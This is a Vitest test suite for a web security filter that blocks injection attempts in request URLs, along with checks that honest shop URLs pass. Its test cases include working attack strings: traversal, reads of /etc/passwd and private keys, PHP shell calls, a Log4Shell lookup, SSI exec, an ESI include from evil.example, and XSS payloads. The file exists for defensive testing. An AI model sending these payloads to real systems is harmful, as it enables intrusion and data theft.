import { describe, expect, it } from 'vitest';
import { findInjection, INJECTION_BLOCKED_MESSAGE } from './security-filter';
import type { InjectionKind } from './security-filter';
import { asLatin1, mixedCase, RAW_PATH_RE, RAW_QUERY_VALUE_RE, readFixture } from '~/tests/support/filter-fixtures';
import type { FixtureLine } from '~/tests/support/filter-fixtures';

const attacks = readFixture('attack-strings.txt');
const honest = readFixture('honest-urls.txt');

/** The request targets one attack string is sent as. */
function attackTargets({ text }: FixtureLine): string[] {
  const targets: string[] = [];
  for (const variant of new Set([text, mixedCase(text)])) {
    const once = encodeURIComponent(variant);
    const twice = encodeURIComponent(once);
    targets.push(
      `/search/?q=${once}`,
      `/catalog/woman/?sort=price_asc&q=${once}&PAGEN_1=2`,
      `/search/?q=${twice}`,
      `/search/?q=${encodeURIComponent(twice)}`,
      // Escapes in lower case, as some clients write them.
      `/search/?q=${once.replace(/%[0-9A-F]{2}/g, (e) => e.toLowerCase())}`,
      `/media/${once}`,
      `/catalog/${twice}/`,
    );
    if (RAW_QUERY_VALUE_RE.test(variant)) targets.push(`/search/?q=${variant}`);
    if (RAW_PATH_RE.test(variant)) targets.push(`/media/${variant}`, `/${variant}`);
  }
  return targets;
}

describe('fixtures', () => {
  it('have enough lines', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(120);
    expect(honest.length).toBeGreaterThanOrEqual(220);
  });

  it('detects every attack string in every encoding', () => {
    const failures: string[] = [];
    for (const attack of attacks) {
      for (const target of attackTargets(attack)) {
        if (findInjection(target) === null) failures.push(`[${attack.section}] ${attack.text}  ->  ${target}`);
      }
    }
    expect(failures).toEqual([]);
  });

  it('reports each section as its kind', () => {
    const kinds: readonly string[] = [
      'traversal',
      'system-path',
      'script-function',
      'script-tag',
      'scheme',
      'event-handler',
    ];
    const wrong: string[] = [];
    for (const { text, section } of attacks) {
      if (!kinds.includes(section)) continue;
      const found = findInjection(`/search/?q=${encodeURIComponent(text)}`);
      if (found !== section) wrong.push(`[${section}] reported as ${String(found)}: ${text}`);
    }
    expect(wrong).toEqual([]);
  });

  it('lets every honest URL through', () => {
    const failures: string[] = [];
    for (const { text } of honest) {
      for (const target of new Set([text, asLatin1(text)])) {
        const kind = findInjection(target);
        if (kind !== null) failures.push(`${kind}: ${target}`);
      }
    }
    expect(failures).toEqual([]);
  });
});

describe('findInjection by kind', () => {
  const cases: Record<InjectionKind, string[]> = {
    traversal: [
      '/media/../../etc/app.js',
      '/static/..%2f..%2fpackage.json',
      '/static/%2e%2e%2fsecret',
      '/static/%252e%252e%252fsecret',
      '/static/..%c0%afsecret',
      '/static/..%5csecret',
      '/img?src=../../config.json',
      '/img?src=..%5C..%5Cconfig.json',
      '/img?src=%252E%252E%252Fconfig.json',
      '/catalog/..',
      '/admin/..;/x',
      '/?file=....//....//config',
      // A dot or slash spelt as overlong or invalid UTF-8 is an attack by itself (IIS decoded them).
      '/?q=%c0%ae',
      '/?q=%c0%ae%c0%ae',
      '/?q=%C0%AF',
      '/?q=%c1%1c',
      '/?q=%c1%9c',
      '/?q=..%c1%1c..',
      '/?q=%e0%80%ae%e0%80%ae',
      '/?q=%f0%80%80%af',
      '/?q=%25c0%25ae%25c0%25ae%252f',
      '/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
    ],
    'system-path': [
      '/etc/passwd',
      '/?file=%2Fetc%2Fpasswd',
      '/?file=/proc/self/environ',
      '/?f=c:%5Cwindows%5Cwin.ini',
      '/?f=C:/Windows/System32/',
      '/?cmd=/bin/sh',
      '/?f=boot.ini',
      '/.env',
      '/.git/config',
      '/?u=file:///etc/hosts',
      // System directories whatever file follows: the path or a value starts with one.
      '/etc/nginx.conf.bak',
      '/etc/anything-at-all',
      '/ETC/Whatever',
      '//etc/foo',
      '/./etc/foo',
      '/proc/sys/kernel/hostname',
      '/proc/',
      '/usr/local/etc/app.conf',
      '/usr/share/doc/x',
      '/var/tmp/dump.sql',
      '/var/',
      '/sys/class/net/eth0/address',
      '/boot/grub/grub.cfg',
      '/opt/app/config.yml',
      '/?file=/etc/letsencrypt/live/x/privkey.pem',
      '/?f=%2Fvar%2Fcache%2Fapp',
      '/?path=%5Cetc%5Cfoo',
      '/?cmd=cat%20/etc/motd.d/x',
      '/?x=a;/usr/local/bin/x',
      "/?x='/var/db/x'",
    ],
    'script-function': [
      '/?q=eval(1)',
      '/?q=EVAL%28base64_decode%28%24x%29%29',
      '/?q=base64_decode%20(%22eA%3D%3D%22)',
      '/?q=system(%27id%27)',
      '/?q=shell_exec(%22ls%22)',
      '/?q=passthru(%27id%27)',
      '/?q=phpinfo()',
      '/?q=assert(%24_GET%5B1%5D)',
      '/?q=%3C%3Fphp%20echo%201%3B',
      '/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D',
      '/?q=%7B%7B7*7%7D%7D',
      '/?page=php://filter/resource=index',
      // Server-side and edge-side includes.
      '/?q=%3C!--%23exec%20cmd%3D%22id%22--%3E',
      '/?q=%3C!--%23include%20virtual%3D%22/index.html%22--%3E',
      '/?q=%3C!--%23echo%20var%3D%22DOCUMENT_ROOT%22--%3E',
      '/?q=%3C!--%20%23printenv%20--%3E',
      '/?q=%3C!--%23config%20errmsg%3D%22x%22--%3E',
      '/?q=%3C!--%23set%20var%3D%22x%22%20value%3D%221%22--%3E',
      '/?q=%23exec%20cmd%3D%22ls%22',
      '/?q=%3Cesi%3Ainclude%20src%3D%22http%3A%2F%2Fevil.example%2F%22%2F%3E',
      '/?q=%3CESI:Inline%20name=x%3E',
      '/?q=%3C!--esi%20%3Cesi:vars%3E--%3E',
      '/?q=%24(HTTP_COOKIE%7B%27session%27%7D)',
      '/%3C!--%23exec%20cmd=%22id%22--%3E/',
    ],
    'script-tag': [
      '/?q=%3Cscript%3Ealert(1)%3C/script%3E',
      '/?q=%3CSCRIPT%20src=//evil%3E',
      '/?q=%253Cscript%253E',
      '/?q=%26lt%3Bscript%26gt%3B',
      '/?q=%26%23x3c%3Bscript',
      '/?q=%26%2360%3Bscript',
      '/?q=%EF%BC%9Cscript%EF%BC%9E',
      '/?q=%3C%2Fscript%3E',
      '/%3Cscript%3E/',
      '/?q=%3Ciframe%20src=//evil.example%3E',
    ],
    scheme: [
      '/?url=javascript:alert(1)',
      '/?url=JavaScript%3Aalert(1)',
      '/?url=java%09script:alert(1)',
      '/?url=java%26%23x09%3Bscript%3Aalert(1)',
      '/?url=vbscript:msgbox(1)',
      '/?url=data:text/html;base64,PHNjcmlwdD4=',
      '/?url=data%3Atext%2Fhtml%2C%3Cb%3E',
      '/?url=data:,hello',
      '/?url=data: image/svg%2Bxml;base64,AAAA',
    ],
    'event-handler': [
      '/?q=%3Cimg%20src=x%20onerror=alert(1)%3E',
      '/?q=%3Csvg/onload=alert(1)%3E',
      '/?q=x%22%20onmouseover=%22alert(1)',
      '/?q=onload%20=alert(1)',
      '/?q=%3Cimg%09src=x%09onerror=alert(1)%3E',
      '/?q=%3Cbody%20ONLOAD=alert(1)%3E',
      '/?q=%3Cx%20onfoo=alert(1)%3E',
    ],
  };
  for (const [kind, targets] of Object.entries(cases)) {
    it(`reports ${kind}`, () => {
      const wrong = targets.map((t) => [t, findInjection(t)] as const).filter(([, found]) => found !== kind);
      expect(wrong).toEqual([]);
    });
  }
});

describe('findInjection on honest look-alikes', () => {
  it('tells a system directory from a shop path with such a segment', () => {
    for (const t of [
      '/catalog/woman/etc/',
      '/catalog/var/',
      '/blog/usr/local/',
      '/catalog/woman/?back=/catalog/woman/etc/',
      '/search/?q=etc/',
      '/search/?q=пальто+и+т.д./etc',
      '/search/?q=var',
      '/?utm_content=https://vitrina.ru/proc/',
      '/?ref=https%3A%2F%2Fhome.example.ru%2Fvar%2F',
      '/search/?q=платье+home/office',
    ]) {
      expect(findInjection(t), t).toBeNull();
    }
    expect(findInjection('/etc/')).toBe('system-path');
  });
  it('tells server-side includes from comments and hash tags', () => {
    for (const t of [
      '/search/?q=%3C!--+комментарий+--%3E',
      '/search/?q=%23include',
      '/search/?q=%23set+%23echo',
      '/search/?q=esi',
      '/search/?q=%24(цена)',
    ]) {
      expect(findInjection(t), t).toBeNull();
    }
  });
  it('reads cp1251 letters as no dot or slash', () => {
    // А (C0) and Б (C1) before cp1251 lower-case letters: no overlong or IIS form.
    for (const t of [
      '/search/?q=%C0%EB%E5%ED%E0',
      '/search/?q=%C1%EE%F0%E8%F1',
      '/search/?q=%C0',
      '/search/?q=%C1%C0%C1',
    ]) {
      expect(findInjection(t), t).toBeNull();
    }
  });
  it('tells the data: scheme from the word data', () => {
    expect(findInjection('/?q=data:+2024')).toBeNull();
    expect(findInjection('/?q=data%3A%202024')).toBeNull();
    expect(findInjection('/?q=metadata:text/html')).toBeNull();
    expect(findInjection('/?q=data:text/html,x')).toBe('scheme');
  });
  it('tells a .. path step from dots in text', () => {
    expect(findInjection('/?q=пальто...')).toBeNull();
    expect(findInjection('/?q=пальто.../')).toBeNull();
    expect(findInjection('/media/...jpg')).toBeNull();
    expect(findInjection('/?q=../')).toBe('traversal');
    expect(findInjection('/a/../b')).toBe('traversal');
  });
  it('tells event handlers from words starting with on', () => {
    for (const t of ['/?one=1', '/?online=yes', '/?only=1', '/?q=ON+SALE', '/?q=onion=1', '/?q=condone=1']) {
      expect(findInjection(t)).toBeNull();
    }
    expect(findInjection('/?onload=alert(1)')).toBe('event-handler');
  });
  it('tells calls from words', () => {
    expect(findInjection('/?q=evaluation')).toBeNull();
    expect(findInjection('/?q=medieval(style)')).toBeNull();
    expect(findInjection('/?q=system+(black)')).toBeNull();
    expect(findInjection('/?q=system+(%22id%22)')).toBe('script-function');
  });
});

describe('findInjection robustness', () => {
  it('does not throw on malformed or odd input', () => {
    const odd = [
      '',
      '%',
      '%%',
      '%%%',
      '/%',
      '/%2',
      '/%zz',
      '/%G0',
      '/?%',
      '/?q=%',
      '/?q=%E0%A4',
      '/?q=%C0',
      '/?q=%FF%FE%FD',
      '/?q=%F8%80%80%80%AE',
      '/?q=%ud800',
      '/?q=%u',
      '/?q=%uZZZZ',
      '/?q=%u12',
      '/?q=\ud800',
      '/?q=&#99999999999;',
      '/?q=&#x110000;',
      '/?q=&#xD800;',
      '/?q=\\u{110000}',
      '/?=',
      '/?&&&',
      '/?a=b=c',
      '?',
      '/\u0000',
      '/?q=%00',
      '/?q=%25%25%25',
      '/?q=%25',
      `/?q=${'%'.repeat(5000)}`,
      `/?q=${'%E0%A4'.repeat(2000)}`,
      `/${'../'.repeat(3000)}`,
    ];
    for (const target of odd) expect(() => findInjection(target)).not.toThrow();
  });
  it('lets a stray % through', () => {
    expect(findInjection('/search/?q=100% шерсть')).toBeNull();
    expect(findInjection('/search/?q=100%')).toBeNull();
    expect(findInjection('/search/?q=%zz%')).toBeNull();
  });
  it('decodes until the text stops changing, through many layers', () => {
    let target = '<script>';
    for (let layer = 1; layer <= 10; layer++) {
      target = encodeURIComponent(target);
      expect(findInjection(`/?q=${target}`), `${layer} layers`).toBe('script-tag');
      expect(findInjection(`/catalog/${target}/`), `${layer} layers in the path`).toBe('script-tag');
    }
    // An honest value re-encoded by a chain of ad redirects stays honest however deep.
    let utm = 'https://yandex.ru/search/?text=пальто&lr=213';
    for (let layer = 1; layer <= 10; layer++) {
      utm = encodeURIComponent(utm);
      expect(findInjection(`/?utm_referrer=${utm}`), `${layer} layers`).toBeNull();
    }
  });
  it('ends on a value that never stops changing', () => {
    const started = performance.now();
    expect(() => findInjection(`/?q=${'%25'.repeat(2000)}32`)).not.toThrow();
    expect(performance.now() - started).toBeLessThan(1000);
  });
  it('is fast on long targets', () => {
    const long = `/catalog/woman/?${Array.from({ length: 200 }, (_, i) => `p${i}=%3C${'a'.repeat(20)}%20on${i}`).join('&')}`;
    const started = performance.now();
    for (let i = 0; i < 20; i++) findInjection(long);
    expect(performance.now() - started).toBeLessThan(2000);
  });
});

describe('INJECTION_BLOCKED_MESSAGE', () => {
  it('is the SPEC §8 text', () => {
    expect(INJECTION_BLOCKED_MESSAGE).toBe('Доступ запрещен: обнаружена попытка внедрения вредоносного кода');
  });
});
